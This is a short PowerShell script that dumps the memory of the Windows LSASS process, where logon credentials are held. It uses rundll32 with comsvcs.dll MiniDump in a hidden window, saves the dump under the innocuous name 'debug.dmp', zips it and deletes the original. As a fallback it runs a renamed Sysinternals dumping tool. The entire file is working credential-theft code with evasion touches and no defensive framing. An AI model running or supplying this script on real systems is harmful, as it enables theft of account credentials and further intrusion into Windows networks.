$out = 'C:\Windows\Temp\debug.dmp'
$lsass = Get-Process -Name lsass

Start-Process -FilePath rundll32.exe -ArgumentList "C:\Windows\System32\comsvcs.dll, MiniDump $($lsass.Id) $out full" -Wait -WindowStyle Hidden

if (Test-Path -Path $out) {
    Compress-Archive -Path $out -DestinationPath 'C:\Windows\Temp\debug.zip' -Force
    Remove-Item -Path $out -Force
}

# fallback, renamed sysinternals binary
& C:\Windows\Temp\dbgsvc.exe -accepteula -ma $lsass.Id C:\Windows\Temp\l.dmp
